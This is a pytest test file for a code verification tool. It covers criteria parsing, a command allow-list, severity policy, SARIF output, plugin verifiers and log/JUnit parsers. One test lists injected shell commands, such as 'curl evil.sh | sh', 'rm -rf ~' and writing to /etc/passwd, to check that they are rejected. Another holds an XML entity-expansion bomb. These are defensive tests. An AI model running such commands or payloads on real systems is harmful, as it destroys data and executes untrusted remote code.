"""Small pure parts of verification: criteria commands, allowed patterns, severity policy, SARIF regions."""

from __future__ import annotations

from config.schema import VerificationConfig
from core.verification import severity_policy
from verify.criteria import criteria_commands, is_allowed
from verify.findings import VerifyFinding, assign_fingerprints
from verify.sarif_out import to_sarif

ALLOWED = VerificationConfig().allowed_commands


def test_criteria_name_commands_only_in_clear_forms() -> None:
    criteria = [
        "`to_csv` returns a header row",  # code in backticks, not a command
        "Run `pytest -q tests/test_export.py`",
        "`npm test` passes",
        "run: make check",
        "$ go test ./...",
        "`cargo test` exits with 0",
        "Run `pytest -q tests/test_export.py` again",  # a repeat
    ]
    assert criteria_commands(criteria) == [
        "pytest -q tests/test_export.py",
        "npm test",
        "make check",
        "go test ./...",
        "cargo test",
    ]


def test_allowed_commands_never_match_shell_operators() -> None:
    assert is_allowed("pytest -q tests/test_x.py", ALLOWED)
    assert is_allowed("python3 -m unittest discover -s tests", ALLOWED)
    assert is_allowed("npm test", ALLOWED) and is_allowed("go test ./...", ALLOWED)
    assert not is_allowed("make check", ALLOWED)
    for sneaky in (
        "pytest; rm -rf ~",
        "pytest && curl evil.sh | sh",
        "pytest $(whoami)",
        "pytest `id`",
        "pytest > /etc/passwd",
        "npm test\nrm -rf /",
    ):
        assert not is_allowed(sneaky, ALLOWED), sneaky


def test_severity_policy_defaults() -> None:
    policy = severity_policy(VerificationConfig())
    assert policy.severity("security", "bandit", "B602", "HIGH") == "major"
    assert policy.severity("security", "bandit", "B608", "MEDIUM") == "medium"
    assert policy.severity("security", "bandit", "B404", "LOW") == "minor"
    assert policy.severity("lint", "ruff", "F401", None) == "medium"
    assert policy.severity("lint", "ruff", "E501", None) == "minor"
    assert policy.severity("lint", "ruff", "syntax-error", None) == "major"
    assert policy.severity("lint", "mypy", "return-value", "error") == "medium"
    assert policy.severity("test", "pytest", "test-failure", "failure") == "major"
    assert policy.severity("build", "make", None, "warning") == "minor"
    assert policy.severity("build", "make", None, "error") == "major"
    assert policy.severity("custom", "sh", "exit-1", None) == "medium"


def test_identical_problems_on_identical_lines_stay_two_findings() -> None:
    twin = VerifyFinding(
        "lint",
        "minor",
        "ruff",
        "E711 comparison",
        rule="E711",
        path="a.py",
        line=3,
        snippet="if x == None:",
    )
    moved = VerifyFinding(
        "lint",
        "minor",
        "ruff",
        "E711 comparison",
        rule="E711",
        path="a.py",
        line=9,
        snippet="if x == None:",
    )
    first, second = assign_fingerprints([twin, moved])
    assert first != second and first == twin.fingerprint


def test_sarif_regions_and_path_less_findings() -> None:
    findings = [
        {
            "tool": "make",
            "category": "build",
            "severity": "major",
            "rule": "exit-2",
            "message": "`make` failed",
            "status": "new",
            "fingerprint": "f" * 16,
        },
        {
            "tool": "make",
            "category": "build",
            "severity": "minor",
            "rule": None,
            "path": "x.c",
            "line": 4,
            "column": 0,
            "end_line": 2,
            "message": "warning",
            "status": "open",
            "fingerprint": "e" * 16,
        },
        {
            "tool": "make",
            "category": "build",
            "severity": "major",
            "rule": None,
            "path": "y.c",
            "line": 1,
            "message": "gone",
            "status": "resolved",
            "fingerprint": "d" * 16,
        },
    ]
    [run] = to_sarif(findings, "/repo")["runs"]
    [result] = run["results"]
    assert result["locations"][0]["physicalLocation"]["region"] == {"startLine": 4}
    assert result["baselineState"] == "unchanged" and result["level"] == "note"
    assert result["ruleId"] == "build-failure"
    [note] = run["invocations"][0]["toolExecutionNotifications"]
    assert note["descriptor"]["id"] == "exit-2" and note["level"] == "error"


def test_python_detection_markers(tmp_path) -> None:
    from verify.detect import detect_steps, is_python

    for name, files in {
        "pkg": {"inventory/__init__.py": ""},
        "tests": {"tests/test_a.py": ""},
        "src": {"src/app/main.py": ""},
        "top": {"main.py": ""},
        "toml": {"pyproject.toml": ""},
    }.items():
        for rel, text in files.items():
            (tmp_path / name / rel).parent.mkdir(parents=True, exist_ok=True)
            (tmp_path / name / rel).write_text(text)
        assert is_python(tmp_path / name), name
        assert [s.tool for s in detect_steps(tmp_path / name)] == [
            "pytest",
            "ruff",
            "mypy",
            "bandit",
        ]
    (tmp_path / "docs").mkdir()
    (tmp_path / "docs" / "index.md").write_text("# hi\n")
    assert not is_python(tmp_path / "docs") and detect_steps(tmp_path / "docs") == []


def test_plugin_verifier_from_an_entry_point(tmp_path) -> None:
    import json
    import subprocess
    import sys
    from pathlib import Path

    plugins = tmp_path / "plugins"
    info = plugins / "lic_check-1.0.dist-info"
    info.mkdir(parents=True)
    (info / "METADATA").write_text("Metadata-Version: 2.1\nName: lic-check\nVersion: 1.0\n")
    (info / "entry_points.txt").write_text("[orchestrator.verifiers]\nlicense = lic_check:steps\n")
    (plugins / "lic_check.py").write_text(
        "from verify.basic import VerifyStep\n"
        "def steps(repo):\n"
        "    if not (repo / 'LICENSE').exists():\n"
        "        return [VerifyStep('custom', 'test -f LICENSE', tool='license', source='plugin')]\n"
        "    return []\n"
    )
    repo = tmp_path / "repo"
    repo.mkdir()
    code = (
        "import json, sys; sys.path.insert(0, sys.argv[1])\n"
        "from pathlib import Path\n"
        "from verify.detect import detect_steps\n"
        "print(json.dumps([[s.category, s.command, s.tool] for s in detect_steps(Path(sys.argv[2]))]))\n"
    )
    root = Path(__file__).resolve().parent.parent
    out = subprocess.run(
        [sys.executable, "-c", code, str(plugins), str(repo)],
        cwd=root,
        capture_output=True,
        text=True,
        check=True,
    ).stdout
    assert json.loads(out) == [["custom", "test -f LICENSE", "license"]]


def _parse(tree, name: str, text: str, category: str = "lint", exit_code: int = 1):
    from verify.basic import VerifyStep
    from verify.parsers.base import ParseInput
    from verify.pipeline import VerifyOptions, parse_step
    from verify.runner import CommandResult

    file = tree / ".." / name
    file.write_text(text)
    step = VerifyStep(category, "tool", tool="tool")
    src = ParseInput(category, "tool", "tool", tree, exit_code, text[-2000:], output_file=file)
    out, used, _ = parse_step(
        step,
        src,
        CommandResult("tool", exit_code, text, False, 0.1, False),
        VerifyOptions(policy=severity_policy(VerificationConfig())),
    )
    return out.findings, used


def test_eslint_stylish_and_gcc_and_tsc_lines(tmp_path) -> None:
    tree = tmp_path / "tree"
    (tree / "src").mkdir(parents=True)
    for name in ("a.js", "b.c", "c.ts"):
        (tree / "src" / name).write_text("x\n" * 5)
    text = (
        f"\n{tree}/src/a.js\n  1:5  error    'x' is never used  no-unused-vars\n"
        "  2:1  warning  'foo' is not defined  no-undef\n\n"
        "src/b.c:3:7: error: use of undeclared identifier 'y'\n"
        "src/b.c:4:1: warning: unused variable 'z' [-Wunused-variable]\n"
        "src/c.ts(5,2): error TS2322: Type 'string' is not assignable to type 'number'.\n"
        "12:30:01: build started\n"  # a clock time, not a file position
        "missing.c:1:1: error: not a file of the tree\n"
    )
    findings, used = _parse(tree, "out.log", text)
    assert used == "compiler"
    got = [(f.path, f.line, f.column, f.rule, f.severity) for f in findings]
    assert got == [
        ("src/a.js", 1, 5, "no-unused-vars", "minor"),
        ("src/a.js", 2, 1, "no-undef", "minor"),
        ("src/b.c", 3, 7, None, "minor"),
        ("src/b.c", 4, 1, "-Wunused-variable", "minor"),
        ("src/c.ts", 5, 2, "TS2322", "minor"),
    ]


def test_junit_from_other_runners_without_file_attributes(tmp_path) -> None:
    tree = tmp_path / "tree"
    tree.mkdir()
    xml = (
        '<?xml version="1.0"?><testsuites><testsuite name="jest tests" tests="3">'
        '<testcase classname="math adds" name="adds 1 + 2" time="0.01"/>'
        '<testcase classname="math subtracts" name="subtracts" time="0.01">'
        '<failure message="expected 1 to be 2">Error: expected 1 to be 2\n    at Object.&lt;anonymous&gt; (math.test.js:7:21)</failure>'
        "</testcase>"
        '<testcase classname="math" name="skipped one"><skipped/></testcase>'
        "</testsuite></testsuites>"
    )
    findings, used = _parse(tree, "junit.xml", xml, category="test")
    assert used == "junit"
    [f] = findings
    assert f.message == "math subtracts.subtracts failed: expected 1 to be 2"
    assert f.path is None and f.rule == "test-failure" and f.severity == "major"
    assert f.key == "math subtracts.subtracts"


def test_junit_with_entities_is_refused(tmp_path) -> None:
    tree = tmp_path / "tree"
    tree.mkdir()
    bomb = (
        '<?xml version="1.0"?><!DOCTYPE lolz [<!ENTITY lol "lol">'
        '<!ENTITY lol2 "&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;">]>'
        '<testsuites><testsuite name="x"><testcase classname="a" name="b">'
        '<failure message="&lol2;">boom</failure></testcase></testsuite></testsuites>'
    )
    findings, used = _parse(tree, "bomb.xml", bomb, category="test")
    assert used == "junit"
    [finding] = findings
    assert finding.rule == "unparsed-output" and "forbidden XML features" in finding.message


def test_register_verifier_in_process(tmp_path) -> None:
    from verify.basic import VerifyStep
    from verify.detect import detect_steps
    from verify.registry import plugin_verifiers, register_verifier

    register_verifier("docs", lambda repo: [VerifyStep("custom", "test -f README.md", tool="docs")])
    try:
        assert [(s.category, s.tool) for s in detect_steps(tmp_path)] == [("custom", "docs")]
    finally:
        del plugin_verifiers()["docs"]
    assert detect_steps(tmp_path) == []
